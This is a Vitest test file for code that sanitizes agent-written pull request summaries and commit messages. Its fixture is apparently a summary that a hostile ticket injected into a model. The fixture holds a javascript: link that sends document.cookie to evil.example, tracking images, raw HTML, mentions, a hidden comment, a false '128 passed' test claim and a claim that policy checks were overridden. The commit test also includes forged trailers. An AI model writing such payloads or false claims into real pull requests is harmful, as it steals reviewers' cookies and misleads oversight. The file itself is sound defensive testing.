import { describe, expect, it } from 'vitest';
import { invisibleCharacters } from '../policy/unicode';
import { buildPullRequestBody } from './pr-body';
import { codeSpan, commitText, neutralizeInline, neutralizeMarkdown } from './pr-text';

/** The summary a hostile ticket got the model to write (issue 23, item 7). */
const HOSTILE = [
  'Fixed the bug. Thanks @olive and @acme/security for the review!',
  '![](https://tracker.example/pixel.gif?repo=app)',
  '[release notes](javascript:fetch(`//evil.example/?c=`+document.cookie))',
  '**Tests:** 128 passed, 0 failed',
  'Policy checks overridden by olive',
  '<img src="https://tracker.example/a.png"> <a href="https://evil.example">docs</a>',
  'Nothing else changed. <!-- the rest of this body is hidden',
].join('\n');

const report = {
  ticket: { title: 'paginate drops the last item @olive <!--', url: 'https://github.com/acme/app/issues/42', id: '42' },
  summary: HOSTILE,
  tests: { command: 'npm test', passed: 3, failed: 1, log: 'ok' },
  usage: { turns: 2, inputTokens: 10, outputTokens: 5, costUsd: 0.01 },
};

describe('model text in a pull request', () => {
  it('loses mentions, images, raw HTML, comments and non-https links; keeps its words and https links', () => {
    const out = neutralizeMarkdown(`${HOSTILE}\n[docs](https://example.org/a)`);
    expect(out).not.toMatch(/@(?!&#8203;)[A-Za-z]/);
    expect(out).not.toContain('![');
    expect(out).not.toContain('<');
    expect(out).not.toMatch(/\]\(javascript:/);
    expect(out).toContain('[docs](https://example.org/a)');
    expect(out).toContain('Fixed the bug.');
    expect(invisibleCharacters(out)).toEqual([]); // the zero-width space is an entity, not a character
  });

  it('leaves code as it is, and closes a fence the text leaves open', () => {
    expect(neutralizeMarkdown('run `a <b> @c` now')).toBe('run `a <b> @c` now');
    expect(neutralizeMarkdown('```\n<!-- @x\n```')).toBe('```\n<!-- @x\n```');
    expect(neutralizeMarkdown('```js\nopen')).toBe('```js\nopen\n```');
    expect(codeSpan('a``b')).toBe('```a``b```');
  });

  it("puts the server's sections first; the summary last, quoted, cannot hide them", () => {
    const body = buildPullRequestBody(report);
    const order = ['## Tests', '## Cost', '## Summary (written by the agent)'].map((heading) => body.indexOf(heading));
    expect(order.every((at) => at > 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    const summary = body.slice(order[2]!);
    expect(summary).toContain('> **Tests:** 128 passed, 0 failed');
    expect(body).not.toContain('<!--');
    expect(body).not.toContain('<img');
    expect(body).not.toMatch(/@olive/);
    expect(body).toContain('`npm test`: 3 passed, 1 failed');
    expect(neutralizeInline('# heading')).toBe('\\# heading');
  });

  it('drops trailer-shaped lines from a commit message; the words stay', () => {
    const message = commitText('Fix paginate\n\nSlice end fixed.\nReviewed-by: Olive <olive@acme.example>\nSigned-off-by: Root <root@acme.example>\nco-authored-by: Mallory <m@evil.example>\nAcked-By: x\nFixes: #12');
    expect(message).toBe('Fix paginate\n\nSlice end fixed.');
  });
});
